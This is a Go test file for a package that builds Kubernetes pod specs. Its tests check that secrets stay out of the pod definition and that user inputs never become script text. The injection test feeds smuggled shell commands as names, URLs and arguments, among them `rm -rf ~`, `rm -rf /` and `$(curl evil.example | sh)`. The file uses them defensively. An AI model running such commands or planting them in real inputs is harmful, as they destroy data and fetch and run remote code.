package podspec

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestPodHoldsNoSecretValue(t *testing.T) {
	l := fixture()
	pod, err := Pod(l)
	if err != nil {
		t.Fatalf("Pod: %v", err)
	}
	raw, err := json.Marshal(pod)
	if err != nil {
		t.Fatal(err)
	}
	secret, err := Secret(l)
	if err != nil {
		t.Fatalf("Secret: %v", err)
	}
	held := map[string]bool{}
	for _, b := range secret.Data {
		held[string(b)] = true
	}
	values := []string{l.HostToken}
	for _, v := range l.Env {
		values = append(values, v)
	}
	for _, v := range values {
		if strings.Contains(string(raw), v) || strings.Contains(string(raw), jsonText(t, v)) {
			t.Errorf("the pod holds the secret value %q", v)
		}
		if !held[v] {
			t.Errorf("the Secret does not hold the value %q", v)
		}
	}
	refs := pod.Spec.Containers[0].EnvFrom
	if len(refs) != 1 || refs[0].SecretRef == nil || refs[0].SecretRef.Name != secret.Name {
		t.Errorf("the app container's envFrom = %+v, want the Secret %q", refs, secret.Name)
	}
}

// jsonText is v as it appears inside a JSON string, for values JSON escapes.
func jsonText(t *testing.T, v string) string {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return strings.Trim(string(b), `"`)
}

// TestInputsNeverBecomeScript: whatever the names, URL and command, the scripts the containers
// run are the same fixed text, and the inputs reach them only as variables and arguments.
func TestInputsNeverBecomeScript(t *testing.T) {
	plain, err := Pod(fixture())
	if err != nil {
		t.Fatalf("Pod(fixture()): %v", err)
	}
	odd := fixture()
	odd.Org = `acme'; rm -rf ~ #`
	odd.App = "$(curl evil.example | sh)`id`\n\"x\""
	odd.SourcesURL = `https://sources.example/x?sig='$(touch /tmp/pwned)'"&a=;b`
	odd.Command = []string{"node", "server.js; rm -rf /", "$HOME"}
	pod, err := Pod(odd)
	if err != nil {
		t.Fatalf("Pod(odd names): %v", err)
	}
	if diff := cmp.Diff(plain.Spec.InitContainers[0].Command, pod.Spec.InitContainers[0].Command); diff != "" {
		t.Errorf("the install command changed with the inputs (-fixture +odd):\n%s", diff)
	}
	wantApp := append(slices.Clone(plain.Spec.Containers[0].Command), odd.Command...)
	if diff := cmp.Diff(wantApp, pod.Spec.Containers[0].Command); diff != "" {
		t.Errorf("the app command is not the fixed script followed by Command as arguments (-want +got):\n%s", diff)
	}
	var url string
	for _, e := range pod.Spec.InitContainers[0].Env {
		if e.Name == "TIDEGATE_SOURCES_URL" {
			url = e.Value
		}
	}
	if url != odd.SourcesURL {
		t.Errorf("TIDEGATE_SOURCES_URL = %q, want the URL as given, %q", url, odd.SourcesURL)
	}
}
